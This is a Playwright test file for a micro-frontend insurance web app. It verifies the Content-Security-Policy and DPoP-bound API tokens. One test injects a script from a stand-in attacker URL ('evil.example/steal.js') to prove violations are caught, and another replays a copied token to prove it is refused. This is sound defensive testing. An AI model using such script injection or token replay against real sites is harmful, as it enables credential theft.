import { expect, test, type Page } from '@playwright/test';
import { signIn } from '../support';
import { chooseOption } from '../steps/choose-option';

const area = (page: Page, remote: string) => page.locator(`[data-remote="${remote}"][data-state="mounted"]`);

/** Records every Content-Security-Policy violation the page reports, from its first script on. */
async function watchCspViolations(page: Page) {
  const messages: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) messages.push(message.text());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  return async () => [
    ...messages,
    ...(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)),
  ];
}

test('the app runs under its Content-Security-Policy without a single violation, signed in, in every remote', async ({
  page,
}) => {
  const violations = await watchCspViolations(page);
  // The landing: its two inline scripts (the head's first requests, the first paint) run under the policy, allowed by their hashes alone.
  const landing = await page.goto('/');
  await expect(page.locator('[data-first-paint="landing"]')).toBeVisible();
  const policy = (await landing!.allHeaders())['content-security-policy'] ?? '';
  expect(policy).toMatch(
    /script-src 'self' ('sha256-[A-Za-z0-9+/]+=*' ){2}http:\/\/localhost:3001 http:\/\/localhost:3002 http:\/\/localhost:3003 http:\/\/localhost:3004 http:\/\/localhost:3005 http:\/\/localhost:3006;/,
  );
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).not.toMatch(/unsafe-eval/);
  expect(policy).not.toMatch(/script-src[^;]*unsafe-inline/);
  // Style elements the components write are allowed; style attributes in markup are not (docs/decisions.md).
  expect(policy).toMatch(/style-src 'self'[^;']*;/);

  await signIn(page, 'cliente@demo.local');
  await expect(area(page, 'mfe_quotes_policies')).toBeVisible();
  const nav = page.getByRole('navigation', { name: 'Navegação principal' });
  for (const [link, remote] of [
    ['Sinistros', 'mfe_claims'],
    ['Cyber', 'mfe_cyber'],
    ['Equipe', 'mfe_onboarding'],
    ['Apólices', 'mfe_quotes_policies'],
  ] as const) {
    await nav.getByRole('link', { name: link }).click();
    await expect(area(page, remote).getByRole('heading', { level: 1 })).toBeVisible();
  }
  await page.goto('/ipaf/prev');
  await expect(area(page, 'mfe_ipaf').getByRole('heading', { level: 1 })).toBeVisible();
  // A list filter and the language picker chosen from (what follows a choice: the list reloaded,
  // every remote's texts in another language) under the same policy (docs/decisions.md).
  await nav.getByRole('link', { name: 'Sinistros' }).click();
  await chooseOption(area(page, 'mfe_claims'), 'Filtrar por status', 'Aprovados');
  await chooseOption(page.locator('header'), 'Idioma', 'EN');
  await expect(page.getByRole('navigation', { name: 'Main navigation' })).toBeVisible();
  expect(await violations()).toEqual([]);
});

test('a page that breaks the policy is reported (the watch works)', async ({ page }) => {
  const violations = await watchCspViolations(page);
  await page.goto('/help');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js';
    document.head.append(script);
  });
  await expect
    .poll(violations)
    .toEqual(expect.arrayContaining([expect.stringContaining('https://evil.example/steal.js')]));
});

test('the signed-in app calls the API with a DPoP-bound token and a fresh proof each time', async ({ page }) => {
  const calls: { authorization?: string; dpop?: string }[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname.startsWith('/v3/') && request.headers().authorization)
      calls.push({ authorization: request.headers().authorization, dpop: request.headers().dpop });
  });
  await signIn(page, 'cliente@demo.local');
  await expect(area(page, 'mfe_quotes_policies')).toBeVisible();
  await page.getByRole('navigation', { name: 'Navegação principal' }).getByRole('link', { name: 'Sinistros' }).click();
  await expect(area(page, 'mfe_claims').getByRole('row')).not.toHaveCount(0);

  expect(calls.length).toBeGreaterThan(2);
  for (const call of calls) {
    expect(call.authorization).toMatch(/^DPoP ey/);
    expect(call.dpop).toMatch(/^ey[\w-]+\.[\w-]+\.[\w-]+$/);
  }
  expect(new Set(calls.map((call) => call.dpop)).size).toBe(calls.length);

  // The same token copied out of the browser and replayed without the key is refused.
  const token = calls[0]!.authorization!.slice('DPoP '.length);
  const replayed = await page.request.get('/v3/me', { headers: { authorization: `Bearer ${token}` } });
  expect(replayed.status()).toBe(401);
  const withCopiedProof = await page.request.get('/v3/me', {
    headers: { authorization: `DPoP ${token}`, dpop: calls[0]!.dpop! },
  });
  expect(withCopiedProof.status()).toBe(401);
});
